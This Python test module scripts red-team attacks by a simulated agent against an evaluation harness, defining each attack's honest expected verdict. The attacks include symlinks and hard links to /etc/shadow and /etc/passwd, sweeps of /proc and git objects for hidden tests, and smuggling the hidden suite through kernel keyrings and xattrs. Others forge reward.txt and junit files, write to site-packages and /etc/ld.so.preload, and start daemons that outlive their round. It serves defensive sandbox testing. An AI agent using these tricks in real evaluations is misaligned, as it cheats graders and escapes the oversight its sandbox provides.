"""Red-team attacks: scripted agents aimed at the harness, not at pytest's internals.

Each attack is a scripted agent (steps per round) against the counter fixture task. Most
implement nothing and must fail honestly; the ``pass`` ones apply the reference solution
and then make the workspace or the machine hostile, so a lost round or a false
``integrity_violation`` shows up as a missing pass. ``plant`` attacks pass round 1 and
leave something running for round 2.

The ``expect`` field says which verdict is the honest one: ``fail`` (the hidden tests of
round 1 fail), ``pass`` (the reference solution is in place) or ``reject`` (the round
fails with a ``workspace:`` reason: over a limit).
"""

from __future__ import annotations

from dataclasses import dataclass, field

from tests.adversarial.attacks import STUB


@dataclass(frozen=True)
class Attack:
    steps: list[dict]
    """Steps of round 1 (and of later rounds unless ``later`` is given)."""
    expect: str = "fail"
    later: list[dict] | None = None
    """Steps of rounds 2+ (the job then runs two rounds)."""
    backends: tuple[str, ...] = ("local", "docker")
    marker: bool = False
    """The attack leaves processes tagged with ``{marker}`` (checked for leaks)."""
    loot: str | None = None
    """A workspace file where the attack puts what it stole; must hold no hidden material."""
    error_has: str = ""
    """Text the first round's error must contain (the reason it was refused)."""
    limits: dict[str, int] = field(default_factory=dict)
    """Task ``[environment]`` limits for this attack (small ones keep the suite fast)."""
    env: dict[str, str] = field(default_factory=dict)
    """Engine environment for this attack (e.g. the Docker snapshot mode)."""
    mode: str = "mt"
    """The job's mode: ``sr`` starts each round in a new sandbox (which may be given a
    recycled folder of an earlier verifier's clone)."""


def stub() -> dict:
    return {"write": {"path": "counter.py", "content": STUB}}


def py(code: str, timeout: float | None = None) -> dict:
    """A step that runs ``code`` with python3 (quoted through a here-document)."""
    step: dict = {"run": f"python3 - <<'EOF'\n{code}\nEOF"}
    if timeout:
        step["timeout"] = timeout
    return step


ORACLE = "oracle"

_READ_SUITE = """

def _exfil():
    root = None
    for o in _gc.get_objects():
        try:
            if type(o).__name__ == "Config" and hasattr(o, "rootpath"):
                root = str(o.rootpath)
        except Exception:
            pass
    data = b""
    for d, _, files in _os.walk(root or "/nonexistent"):
        for f in files:
            if f.endswith(".py"):
                data += open(_os.path.join(d, f), "rb").read()
"""
"""Opens the payloads' ``_exfil()`` below: the hidden suite the verifier runs, read from
the files under pytest's rootdir (found through ``gc``), into ``data``."""

# Imported by the verifier: the suite's files into the user's keyrings and files outside
# the workspace (see "keyring_exfil").
_EXFIL = (
    """
import ctypes as _ct, gc as _gc, os as _os
"""
    + _READ_SUITE
    + """    data = data[:30000]
    nr = {"x86_64": 248, "aarch64": 217}.get(_os.uname().machine)
    try:
        libc = _ct.CDLL(None, use_errno=True)
        for ring in (-3, -4, -5):  # session, user, user-session keyring
            libc.syscall(nr, b"user", b"rtleak%d" % -ring, data, len(data), _ct.c_int(ring))
    except Exception:
        pass
    for p in ("rtleak.txt", "/tmp/rtleak.txt", "/var/tmp/rtleak.txt", "/dev/shm/rtleak.txt",
              "/run/rtleak.txt", _os.path.expanduser("~/rtleak.txt")):
        try:
            open(p, "wb").write(data)
        except Exception:
            pass


_exfil()
"""
)
# Imported by the verifier: the suite's files into extended attributes of the workspace
# folder and a kept sub-folder (see "xattr_handoff").
_XATTR = (
    """
import gc as _gc, os as _os
"""
    + _READ_SUITE
    + """    for i in range(0, min(len(data), 3000), 1000):
        for where in (".", "keep"):
            try:
                _os.setxattr(where, "user.rt%d" % i, data[i : i + 1000])
            except OSError:
                pass


_exfil()
"""
)
_XATTR_COLLECT = """
import os
out = open("loot.txt", "wb")
for where in (".", "keep"):
    try:
        for n in os.listxattr(where):
            out.write(os.getxattr(where, n))
    except OSError:
        pass
"""
# Round 2's agent: what round 1's verifier left in the keyrings and in files.
_COLLECT = """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
nr = {"x86_64": 250, "aarch64": 219}.get(os.uname().machine)
out = open("loot.txt", "wb")
for ring in (-3, -4, -5):
    for n in (3, 4, 5):
        kid = libc.syscall(nr, 10, ctypes.c_int(ring), b"user", b"rtleak%d" % n, 0)
        if kid > 0:
            buf = ctypes.create_string_buffer(65536)
            got = libc.syscall(nr, 11, kid, buf, 65536)
            out.write(buf.raw[: max(got, 0)])
            libc.syscall(nr, 21, kid)  # invalidate: leave the host's keyrings clean
for p in ("rtleak.txt", "/tmp/rtleak.txt", "/var/tmp/rtleak.txt", "/dev/shm/rtleak.txt",
          "/run/rtleak.txt", os.path.expanduser("~/rtleak.txt")):
    try:
        out.write(open(p, "rb").read())
        os.unlink(p)
    except OSError:
        pass
out.close()
"""

ATTACKS: dict[str, Attack] = {
    # ---- hostile files at paths the harness walks, copies and reads ----------------------
    # 1500 nested folders: a recursive walk would overflow the engine's stack
    "deep_nesting": Attack(
        [
            ORACLE,
            py(
                "import os\np='.'\nfor i in range(1500):\n    p+='/d'\n"
                "os.makedirs(p)\nopen(p+'/leaf.txt','w').write('x')"
            ),
        ],
        expect="pass_or_reject",
    ),
    # names that are not UTF-8, with newlines, RTL overrides, '::', leading dashes, NFC/NFD
    "hostile_names": Attack(
        [
            ORACLE,
            py(
                "import os\n"
                "for n in [b'\\xff\\xfe.py', b'a\\nb.txt', b'\\xe2\\x80\\xaeyp.tset', b'x::y.py',"
                " b'-rf', b'[a-z]', b' lead', b'caf\\xc3\\xa9', b'cafe\\xcc\\x81', b'A'*255,"
                " b'\\x1b[31mred', b'test_words.py ']:\n"
                "    open(n, 'wb').write(b'x')\n"
                "os.mkdir(b'\\xc3\\x28'); open(b'\\xc3\\x28/f', 'wb').write(b'y')"
            ),
        ],
        expect="pass",
    ),
    # a 64 GiB sparse file costs the agent nothing; reading it would hold the round
    "sparse_giant": Attack([ORACLE, {"run": "truncate -s 64G sparse.bin"}], expect="reject"),
    # FIFOs and a listening unix socket in the workspace, one named like the module
    "fifo_socket": Attack(
        [
            ORACLE,
            {
                "run": "mkfifo pipe.py; mkdir -p pkg; mkfifo pkg/__init__.py; python3 -c "
                "\"import socket; s=socket.socket(socket.AF_UNIX); s.bind('sock')\""
            },
        ],
        expect="pass",
    ),
    # permission-000 folders and files (the engine may run as another user than the agent)
    "perm_000": Attack(
        [
            ORACLE,
            {
                "run": "mkdir -p locked/inner && echo s > locked/inner/f && echo t > "
                "nope.txt && chmod 000 nope.txt locked/inner locked"
            },
        ],
        expect="pass_or_reject",
    ),
    # symlinks everywhere: to /, to the host's secrets, loops, dangling, up the tree
    "symlink_farm": Attack(
        [
            stub(),
            {
                "run": "ln -s / root; ln -s /etc/shadow shadow; ln -s loop loop; "
                "ln -s ../../.. up; ln -s /nonexistent dangling; ln -s /proc/self/environ env"
            },
        ],
    ),
    # the module under test is a symlink to a host file: the verifier must not grade it
    "module_symlink_out": Attack([{"run": "ln -sf /etc/passwd counter.py"}]),
    # hard links to files outside the workspace (same filesystem where it can)
    "hardlink_out": Attack(
        [
            stub(),
            {
                "run": "for f in /etc/hostname /etc/passwd /usr/bin/env; do "
                "ln $f hl_$(basename $f) 2>/dev/null; done; true"
            },
        ],
    ),
    # the workspace folder itself swapped for a link to the round's solution folder (the
    # agent knows the library's layout; hidden folders are mount points it can list)
    "workspace_swap_to_solution": Attack(
        [
            py(
                "import os\nws = os.getcwd()\nos.rename(ws, ws + '.orig')\n"
                "os.symlink('{task}/rounds/01/solution/files', ws)"
            )
        ],
        backends=("local",),
        error_has="not a folder",
    ),
    # the same swap, to the whole host: a snapshot of / would copy what the agent cannot see
    "workspace_swap_to_root": Attack(
        [stub(), py("import os\nws=os.getcwd()\nos.rename(ws, ws+'.orig')\nos.symlink('/', ws)")],
        backends=("local",),
        error_has="not a folder",
    ),
    # files the harness writes or reads by name, planted in the workspace
    "harness_names": Attack(
        [
            stub(),
            {
                "run": "mkdir -p .evoround runs/job logs/verifier /logs/verifier 2>/dev/null; "
                "echo 1 > reward.txt; echo 1 > logs/verifier/reward.txt; "
                "echo 1 > /logs/verifier/reward.txt 2>/dev/null; "
                'printf \'<testsuites><testsuite tests="1"><testcase name="test_simple"/>'
                "</testsuite></testsuites>' | tee junit.xml report.xml results.xml > /dev/null; "
                "echo '{\"passed\": true}' > results.jsonl; cp results.jsonl .evoround/; "
                "printf 'def test_control_pass(): pass\\n' > test_zz_control.py; "
                "mkdir -p suite verify-x; cp test_zz_control.py suite/test_words.py; true"
            },
        ],
    ),
    # a git repository with hooks on every event, and a bloated object store
    "git_hooks": Attack(
        [
            stub(),
            {
                "run": "git init -q . 2>/dev/null || mkdir -p .git/hooks; for h in "
                "post-checkout pre-commit post-commit pre-push post-merge; do "
                "printf '#!/bin/sh\\ntouch /tmp/evoround-hook-ran-$$\\n' > .git/hooks/$h; "
                "chmod +x .git/hooks/$h; done; head -c 3M /dev/urandom > .git/pack.bin; true"
            },
        ],
    ),
    # capabilities: an immutable file the engine cannot delete, a device node of the disk
    "immutable_and_devices": Attack(
        [
            stub(),
            {
                "run": "echo x > {marker}.lock; chattr +i {marker}.lock; "
                "mknod disk b 254 0 2>/dev/null; mknod mem c 1 1 2>/dev/null; true"
            },
        ],
        marker=True,
    ),
    # uncover the hidden folders: unmount every tmpfs cover, then copy the solution
    "umount_covers": Attack(
        [
            py(
                "import os, subprocess\n"
                "for line in open('/proc/self/mountinfo'):\n"
                "    mp, fs = line.split()[4], line.split(' - ')[1].split()[0]\n"
                "    if fs == 'tmpfs' and mp != '/' and not mp.startswith(('/dev', '/tmp', '/proc', '/sys')):\n"
                "        subprocess.run(['umount', '-l', mp], capture_output=True)\n"
                "src = '{task}/rounds/01/solution/files/counter.py'\n"
                "try:\n    open('counter.py', 'w').write(open(src).read())\n"
                "except OSError as e:\n    print('no', e)"
            )
        ],
        backends=("local",),
    ),
    # ---- background processes racing the snapshot and the verifier -----------------------
    # a double-forked daemon that ignores SIGTERM/SIGHUP and keeps breaking counter.py
    "daemon_breaker": Attack(
        [
            ORACLE,
            py(
                "import os, signal, time\n"
                "if os.fork() == 0:\n"
                "    os.setsid()\n"
                "    if os.fork() == 0:\n"
                "        for s in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):\n"
                "            signal.signal(s, signal.SIG_IGN)\n"
                "        os.closerange(0, 3)\n"
                "        import sys; sys.argv = ['{marker}']\n"
                "        while True:\n"
                "            try:\n"
                "                open('counter.py', 'w').write('raise SystemExit(0)  # {marker}')\n"
                "            except OSError:\n"
                "                pass\n"
                "            time.sleep(0.01)\n"
                "    os._exit(0)\n"
                "os.wait()"
            ),
        ],
        expect="pass_or_fail",
        later=[ORACLE],
        marker=True,
    ),
    # a setsid child that inherits stdout/stderr and keeps them open
    "holds_stdout": Attack(
        [ORACLE, {"run": "setsid sh -c 'sleep 120 # {marker}' & echo started", "timeout": 20}],
        expect="pass",
        marker=True,
    ),
    # cron-like: sleep, then wake up in the middle of a later round and edit the workspace
    "sleeper_next_round": Attack(
        [
            ORACLE,
            {
                "run": "(setsid nohup sh -c 'sleep 3; echo broken > counter.py # {marker}' "
                "> /dev/null 2>&1 < /dev/null &); true"
            },
        ],
        later=[ORACLE, {"run": "sleep 4"}],
        expect="pass",
        marker=True,
    ),
    # a process that ignores SIGTERM and never ends: the step's own timeout must end it
    "sigterm_ignorer": Attack(
        [
            stub(),
            {"run": "trap '' TERM HUP INT; while :; do sleep 0.2; done # {marker}", "timeout": 3},
        ],
        marker=True,
    ),
    # 400 zombies under a parent that never reaps, in its own session
    "zombie_storm": Attack(
        [
            ORACLE,
            py(
                "import os, time, sys\n"
                "if os.fork() == 0:\n"
                "    os.setsid()\n"
                "    os.closerange(0, 3)\n"
                "    for _ in range(400):\n"
                "        if os.fork() == 0:\n"
                "            os._exit(0)\n"
                "    os.execvp('sleep', ['sleep', '300', '{marker}'])\n"
                "time.sleep(1)"
            ),
        ],
        expect="pass",
        marker=True,
    ),
    # stdin, stdout and stderr closed; the command goes on writing files
    "closed_stdio": Attack(
        [ORACLE, {"run": "exec 0<&- 1>&- 2>&-; sleep 1; echo done > after.txt"}],
        expect="pass",
    ),
    # ---- reading what the agent must never see --------------------------------------------
    # the checkout's git objects hold every hidden test of the task library
    "git_objects": Attack(
        [
            stub(),
            {
                "run": "for g in $(find /var/tmp -maxdepth 4 -name .git 2>/dev/null); do "
                "git -C $(dirname $g) archive HEAD | tar -xO >> loot.txt 2>/dev/null; "
                "done; true",
                "timeout": 60,
            },
        ],
        loot="loot.txt",
    ),
    # everything reachable: mount table, /proc of everyone, environment, sockets, git
    "loot_everything": Attack(
        [
            stub(),
            py(
                "import os, glob, subprocess\n"
                "out = open('loot.txt', 'w')\n"
                "def grab(p):\n"
                "    try:\n"
                "        data = open(p, 'rb').read(200000)\n"
                "    except Exception:\n"
                "        return\n"
                "    if b'count_words' in data or b'def test_' in data:\n"
                "        out.write('== %s\\n' % p)\n"
                "        out.write(data.decode('utf-8', 'replace'))\n"
                "for p in glob.glob('/proc/[0-9]*/environ') + glob.glob('/proc/[0-9]*/cmdline'):\n"
                "    try:\n"
                "        out.write(open(p, 'rb').read().decode('utf-8', 'replace') + '\\n')\n"
                "    except Exception:\n"
                "        pass\n"
                "import time\n"
                "stop = time.monotonic() + 20\n"
                "def sweep(root, limit=3000):\n"
                "    n = 0\n"
                "    for d, dirs, files in os.walk(root):\n"
                "        dirs[:] = [x for x in dirs if x not in ('proc', 'sys', 'usr', 'lib')]\n"
                "        for f in files:\n"
                "            n += 1\n"
                "            if n > limit or time.monotonic() > stop:\n"
                "                return\n"
                "            if f.endswith(('.py', '.xml', '.json', '.jsonl', '.txt', '.patch')):\n"
                "                grab(os.path.join(d, f))\n"
                "for p in glob.glob('/proc/[0-9]*/cwd'):\n"
                "    sweep(p)\n"
                "for line in open('/proc/self/mountinfo'):\n"
                "    mp = line.split()[4]\n"
                "    if mp not in ('/', '/proc', '/sys', '/dev', '/usr'):\n"
                "        sweep(mp)\n"
                "for root in ['/tmp', '/var/tmp', '/dev/shm', '/root', '/home', '/logs', '/tests',"
                " '/solution', '/oracle', '/run', '/mnt', '/srv', '/opt', '/work']:\n"
                "    sweep(root)\n"
                "out.write(str(os.environ))\n",
                timeout=120,
            ),
        ],
        loot="loot.txt",
    ),
    # ---- tampering outside the workspace ---------------------------------------------------
    # Docker: the interpreter, site-packages, /etc and HOME; local: whatever is writable
    "tamper_outside": Attack(
        [
            stub(),
            {
                "run": "S=$(python3 -c 'import site; print(site.getsitepackages()[0])'); "
                "U=$(python3 -c 'import site; print(site.getusersitepackages())'); "
                "mkdir -p $S $U 2>/dev/null; "
                "echo 'import os; os._exit(0)' > $S/zz_evil.pth; "
                "echo 'import os; os._exit(0)' > $U/usercustomize.py; "
                "echo 'import os; os._exit(0)' > $S/sitecustomize.py; "
                "echo /tmp/evil.so > /etc/ld.so.preload; "
                "printf '#!/bin/sh\\nexit 0\\n' > /usr/local/bin/python3; "
                "chmod +x /usr/local/bin/python3; "
                "printf '[pytest]\\naddopts = -p no:python\\n' > $HOME/pytest.ini; "
                "printf '[pytest]\\naddopts = -p no:python\\n' > /pytest.ini; "
                "mkdir -p /tmp/pytest-of-root; true"
            },
        ],
    ),
    # ---- resource abuse ----------------------------------------------------------------------
    # 1 GiB on stdout and 1 GiB on stderr at once, without a newline
    "stdio_bomb": Attack(
        [stub(), {"run": "head -c 1G /dev/zero & head -c 1G /dev/zero >&2; wait", "timeout": 120}],
    ),
    # the tested code prints 512 MiB while the hidden tests import it
    "verifier_output_bomb": Attack(
        [
            {
                "write": {
                    "path": "counter.py",
                    "content": STUB + "import os\n"
                    "for _ in range(512):\n    os.write(1, b'x' * (1 << 20))\n",
                }
            }
        ],
    ),
    # more files than the task allows, made as fast as possible
    "many_files": Attack(
        [
            stub(),
            py(
                "import os\nfor d in range(30):\n    os.mkdir('m%d' % d)\n"
                "    for i in range(100):\n        open('m%d/%d' % (d, i), 'w').close()",
                timeout=120,
            ),
        ],
        expect="reject",
        limits={"max_workspace_files": 2000},
    ),
    # memory until the kernel says no (Docker only: the local sandbox sets no memory limit)
    "memory_bomb": Attack(
        [stub(), py("a = []\nwhile True:\n    a.append(bytearray(64 << 20))", timeout=60)],
        backends=("docker",),
    ),
    # the hostile names again through Docker's archive snapshots (tar in and out)
    "hostile_names_archive": Attack(
        [
            ORACLE,
            py(
                "import os\n"
                "for n in [b'\\xff\\xfe.py', b'a\\nb.txt', b'\\xe2\\x80\\xaeyp.tset', b'-rf',"
                " b'A'*255, b'\\x1b[31mred']:\n"
                "    open(n, 'wb').write(b'x')\n"
                "os.symlink('/etc/shadow', 'shadow'); os.mkfifo('fifo')"
            ),
        ],
        expect="pass",
        backends=("docker",),
        env={"EVOROUND_DOCKER_SNAPSHOT": "archive"},
    ),
    # disk filled in /tmp (for local: the sandbox's own /tmp) and a big workspace file
    "tmp_fill": Attack(
        [
            stub(),
            {
                "run": "head -c 200M /dev/zero > /tmp/fill.bin; head -c 200M /dev/urandom > "
                "w.bin; true",
                "timeout": 120,
            },
        ],
    ),
    # ---- channels from the verifier to a later round ----------------------------------------
    # the tested code, imported by round 1's verifier, stores the hidden suite where state
    # outlives a process: the kernel keyrings of its user (per uid, not per namespace:
    # shared with the host, every sandbox and every later command) and files outside the
    # workspace; round 2's agent collects it all (and invalidates the keys it found)
    "keyring_exfil": Attack(
        [ORACLE, {"run": "cat >> counter.py <<'EOF'\n" + _EXFIL + "\nEOF"}],
        expect="pass",
        later=[ORACLE, py(_COLLECT)],
        loot="loot.txt",
    ),
    # the same through extended attributes of folders, which a recycled workspace (a closed
    # verifier clone of 16 MB or more, repaired and handed to the next sandbox) keeps: in a
    # fast-forward job the next round's agent sandbox may be given that folder
    "xattr_handoff": Attack(
        [
            ORACLE,
            {"run": "head -c 17M /dev/urandom > big.bin; mkdir -p keep; touch keep/.k"},
            py(_XATTR_COLLECT),
            {"run": "cat >> counter.py <<'EOF'\n" + _XATTR + "\nEOF"},
        ],
        expect="pass",
        later=[
            ORACLE,
            {"run": "head -c 17M /dev/urandom > big.bin; mkdir -p keep; touch keep/.k"},
            py(_XATTR_COLLECT),
        ],
        loot="loot.txt",
        mode="sr",
    ),
    # more (empty) folders than the task allows files: folders count too, or a workspace of
    # millions of folders would be walked, stored and written back for free
    "many_dirs": Attack(
        [
            stub(),
            py(
                "import os\nfor d in range(30):\n    for i in range(100):\n"
                "        os.makedirs('n%d/%d' % (d, i))",
                timeout=120,
            ),
        ],
        expect="reject",
        limits={"max_workspace_files": 2000},
    ),
    # the tested code, imported by the verifier, fills its clone's workspace with empty
    # files for 20 s (a workspace of 17 MB: the clone is recycled, its folder repaired)
    "verifier_file_bomb": Attack(
        [
            ORACLE,
            {"run": "head -c 17M /dev/urandom > big.bin"},
            {
                "run": "cat >> counter.py <<'EOF'\nimport os as _o, time as _t\n"
                "_end = _t.monotonic() + 20\n_o.makedirs('junk', exist_ok=True)\n_i = 0\n"
                "while _t.monotonic() < _end:\n    for _ in range(1000):\n"
                "        _o.close(_o.open('junk/%d' % _i, _o.O_CREAT | _o.O_WRONLY))\n"
                "        _i += 1\nEOF"
            },
        ],
        expect="pass",
    ),
}
